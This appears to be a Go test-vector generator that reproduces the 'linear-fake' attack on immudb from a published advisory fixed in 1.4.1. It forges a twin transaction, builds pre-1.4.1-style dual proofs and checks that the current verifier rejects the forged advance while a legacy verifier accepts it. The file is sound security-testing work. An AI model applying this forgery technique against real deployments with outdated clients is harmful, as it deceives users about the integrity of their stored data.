package main

import (
	"crypto/sha256"
	"path/filepath"

	"github.com/codenotary/immudb/embedded/ahtree"
	"github.com/codenotary/immudb/embedded/htree"
	"github.com/codenotary/immudb/embedded/store"
	"github.com/codenotary/immudb/pkg/database"
)

// The "linear-fake" attack (immudb docs/security/vulnerabilities/linear-fake, fixed in 1.4.1),
// reproduced from scratch with immudb's own ahtree/store/htree packages (the PoC's hard-coded
// state_values.go is not part of the module zip):
//
//	tx1 {key}                 blTxId 0
//	tx2 {valid-key-0}         blTxId 1   (what the client is first shown)
//	tx2' {fake-key}           blTxId 1   (forged twin of tx2, same prevAlh)
//	tx3 {valid-key-1}         blTxId 1   prevAlh = Alh(tx2)
//	AHT leaves: Alh(tx1), Alh(tx2'), Alh(tx3)      <- the server put the FAKE tx2 in the tree
//	tx4 {key-after-0}         blTxId 3
//	tx5 {key-after-1}         blTxId 4
//
// A pre-1.4.1 server sends dual proofs without a LinearAdvanceProof. 2->2 and 2->3 are ordinary;
// 3->5 is accepted by the pre-1.4.1 algorithm although the linear chain 1..3 seen by the client is
// not the one in the tree; once the client holds state 5, the fake tx2' proves against it (5_2_fake).

type lfTx struct {
	Name      string   `json:"name"`
	Header    *jHeader `json:"header"`
	InnerHash string   `json:"innerHash"`
	Alh       string   `json:"alh"`
	Key       string   `json:"key"`   // stored key (0x00-prefixed)
	Value     string   `json:"value"` // stored value (0x00-prefixed)
	Digest    string   `json:"digest"`
}

type lfStep struct {
	dpCase
	LegacyOk    bool   `json:"legacyOk"` // Go's primitives without the LinearAdvanceProof step (pre-1.4.1 algorithm)
	Explanation string `json:"explanation"`
}

type lfFile struct {
	Description string   `json:"description"`
	Txs         []lfTx   `json:"txs"`
	AhtLeaves   []string `json:"ahtLeaves"`
	Steps       []lfStep `json:"steps"`
}

// legacyVerify is VerifyDualProof of immudb < 1.4.1: the same checks composed from Go's exported
// primitives, without VerifyLinearAdvanceProof.
func legacyVerify(p *store.DualProof, s, t uint64, sAlh, tAlh digest) bool {
	if p == nil || p.SourceTxHeader == nil || p.TargetTxHeader == nil || p.SourceTxHeader.ID != s || p.TargetTxHeader.ID != t {
		return false
	}
	if s == 0 || s > t || p.SourceTxHeader.Alh() != sAlh || p.TargetTxHeader.Alh() != tAlh {
		return false
	}
	leaf := func(d digest) digest { return sha([]byte{ahtree.LeafPrefix}, d[:]) }
	S, T := p.SourceTxHeader, p.TargetTxHeader
	if s < T.BlTxID && !ahtree.VerifyInclusion(p.InclusionProof, s, T.BlTxID, leaf(sAlh), T.BlRoot) {
		return false
	}
	if S.BlTxID > 0 && !ahtree.VerifyConsistency(p.ConsistencyProof, S.BlTxID, T.BlTxID, S.BlRoot, T.BlRoot) {
		return false
	}
	if T.BlTxID > 0 && !ahtree.VerifyLastInclusion(p.LastInclusionProof, T.BlTxID, leaf(p.TargetBlTxAlh), T.BlRoot) {
		return false
	}
	if s < T.BlTxID {
		return store.VerifyLinearProof(p.LinearProof, T.BlTxID, t, p.TargetBlTxAlh, tAlh)
	}
	return store.VerifyLinearProof(p.LinearProof, s, t, sAlh, tAlh)
}

func linearFakeVectors(tmp string) lfFile {
	aht := must(ahtree.Open(filepath.Join(tmp, "linear-fake-aht"), ahtree.DefaultOptions()))
	defer aht.Close()

	type txw struct {
		name string
		hdr  *store.TxHeader
		e    *store.EntrySpec
	}
	mk := func(name string, id uint64, prev digest, blTxID uint64, key, value string) *txw {
		e := database.EncodeEntrySpec([]byte(key), nil, []byte(value))
		d := store.EntrySpecDigest_v1(e)
		ht := must(htree.New(1))
		check(ht.BuildWith([]digest{d}))
		var blRoot digest
		if blTxID > 0 {
			blRoot = must(aht.RootAt(blTxID))
		}
		h := &store.TxHeader{ID: id, Ts: 1662000000 + int64(id), BlTxID: blTxID, BlRoot: blRoot, PrevAlh: prev,
			Version: 1, NEntries: 1, Eh: ht.Root()}
		return &txw{name, h, e}
	}
	appendAlh := func(t *txw) {
		a := t.hdr.Alh()
		_, _ = must2(aht.Append(a[:]))
	}
	tx1 := mk("tx1", 1, sha256.Sum256(nil), 0, "key", "value")
	appendAlh(tx1)
	tx2 := mk("tx2", 2, tx1.hdr.Alh(), 1, "valid-key-0", "valid-value-0")
	tx2f := mk("tx2 fake", 2, tx1.hdr.Alh(), 1, "fake-key", "fake-value")
	tx3 := mk("tx3", 3, tx2.hdr.Alh(), 1, "valid-key-1", "valid-value-1")
	appendAlh(tx2f) // the forged tx goes into the tree
	appendAlh(tx3)
	tx4 := mk("tx4", 4, tx3.hdr.Alh(), 3, "key-after-0", "value-after-0")
	appendAlh(tx4)
	tx5 := mk("tx5", 5, tx4.hdr.Alh(), 4, "key-after-1", "value-after-1")
	appendAlh(tx5)
	chain := map[uint64]*txw{1: tx1, 2: tx2, 3: tx3, 4: tx4, 5: tx5} // the primary's linear chain

	f := lfFile{Description: "Linear-fake attack (immudb security advisory, fixed in 1.4.1) reproduced with immudb v1.11.1's " +
		"ahtree/htree/store packages: a server whose AHT holds a forged tx2 (tx2 fake) while its linear chain holds the " +
		"genuine tx2. Dual proofs are built as a pre-1.4.1 server built them (no linearAdvanceProof). Steps replay the " +
		"PoC client sequence: 2->2 ok, 2->3 ok, 3->5 must be rejected (goOk=false; legacyOk=true shows the old algorithm " +
		"accepted it), 5_2_fake is internally consistent (Go accepts it: only the rejection of 3->5 protects the client). " +
		"goOk = store.VerifyDualProof (v1.11.1)."}
	for _, t := range []*txw{tx1, tx2, tx2f, tx3, tx4, tx5} {
		f.Txs = append(f.Txs, lfTx{Name: t.name, Header: hdrToJ(t.hdr), InnerHash: hd(innerHashOf(t.hdr)), Alh: hd(t.hdr.Alh()),
			Key: hx(t.e.Key), Value: hx(t.e.Value), Digest: hd(store.EntrySpecDigest_v1(t.e))})
	}
	for n := uint64(1); n <= aht.Size(); n++ {
		f.AhtLeaves = append(f.AhtLeaves, hx(must(aht.DataAt(n))))
	}

	// dual proof as a pre-1.4.1 server generates it (store.DualProof minus the LAP)
	dual := func(S, T *store.TxHeader) *store.DualProof {
		p := &store.DualProof{SourceTxHeader: S, TargetTxHeader: T}
		if S.ID < T.BlTxID {
			p.InclusionProof = must(aht.InclusionProof(S.ID, T.BlTxID))
		}
		if S.BlTxID > 0 {
			p.ConsistencyProof = must(aht.ConsistencyProof(S.BlTxID, T.BlTxID))
		}
		if T.BlTxID > 0 {
			p.TargetBlTxAlh = chain[T.BlTxID].hdr.Alh()
			p.LastInclusionProof = must(aht.InclusionProof(T.BlTxID, T.BlTxID))
		}
		from := max(S.ID, T.BlTxID)
		lp := &store.LinearProof{SourceTxID: from, TargetTxID: T.ID, Terms: []digest{chain[from].hdr.Alh()}}
		if from == S.ID {
			lp.Terms[0] = S.Alh()
		}
		for id := from + 1; id <= T.ID; id++ {
			lp.Terms = append(lp.Terms, innerHashOf(chain[id].hdr))
		}
		p.LinearProof = lp
		return p
	}
	step := func(name, expl string, S, T *store.TxHeader, p *store.DualProof) {
		c := dpCase{Name: name, Source: dec(S.ID), Target: dec(T.ID), SourceAlh: hd(S.Alh()), TargetAlh: hd(T.Alh()),
			Proof: dpToJ(p), LapRange: lapRange(p, S.ID)}
		start, end := parseU64(c.LapRange.Start), parseU64(c.LapRange.End)
		c.NeedsLap = end > start+1
		c.GoOk = verifyDP(generic(c))
		assert(c.GoOk == store.VerifyDualProof(p, S.ID, T.ID, S.Alh(), T.Alh()), "lf round trip")
		f.Steps = append(f.Steps, lfStep{dpCase: c, LegacyOk: legacyVerify(p, S.ID, T.ID, S.Alh(), T.Alh()), Explanation: expl})
	}
	step("2_2", "client trusts state (2, Alh(tx2)) and reads tx 2", tx2.hdr, tx2.hdr, dual(tx2.hdr, tx2.hdr))
	step("3_2", "state 2 -> 3: linear proof 2..3", tx2.hdr, tx3.hdr, dual(tx2.hdr, tx3.hdr))
	step("5_3", "state 3 -> 5: needs a LinearAdvanceProof for range (1, 3); none is sent, so the current verifier rejects it",
		tx3.hdr, tx5.hdr, dual(tx3.hdr, tx5.hdr))
	{
		p := dual(tx3.hdr, tx5.hdr)
		// the best LinearAdvanceProof this server can build: the client's chain (genuine tx2) with the tree's
		// inclusion proof of leaf 2 (which is the fake tx2) -> does not verify
		p.LinearAdvanceProof = &store.LinearAdvanceProof{
			LinearProofTerms: []digest{tx2.hdr.Alh(), innerHashOf(tx3.hdr)},
			InclusionProofs:  [][]digest{must(aht.InclusionProof(2, 4))},
		}
		step("5_3 with LinearAdvanceProof", "3 -> 5 with the LinearAdvanceProof a 1.4.1+ server would send: the genuine "+
			"tx2 is not leaf 2 of the tree, so it fails", tx3.hdr, tx5.hdr, p)
	}
	step("5_2_fake", "a vulnerable client now at state 5 reads tx 2 and gets the forged tx2 with a proof 2'->5 that verifies",
		tx2f.hdr, tx5.hdr, dual(tx2f.hdr, tx5.hdr))
	step("3_2_fake", "a fixed client stays at state 3 (it rejected 3->5); the forged tx2 cannot be proven against state 3",
		tx2f.hdr, tx3.hdr, dual(tx2f.hdr, tx3.hdr))
	step("5_2", "the genuine tx2 cannot be proven against state 5 (the tree holds the fake)", tx2.hdr, tx5.hdr, dual(tx2.hdr, tx5.hdr))

	want := map[string]bool{"2_2": true, "3_2": true, "5_3": false, "5_3 with LinearAdvanceProof": false, "5_2_fake": true, "3_2_fake": false, "5_2": false}
	for _, s := range f.Steps {
		assert(s.GoOk == want[s.Name], "linear-fake step %s: goOk %v", s.Name, s.GoOk)
	}
	assert(f.Steps[2].LegacyOk, "the pre-1.4.1 algorithm must accept 3->5")
	return f
}
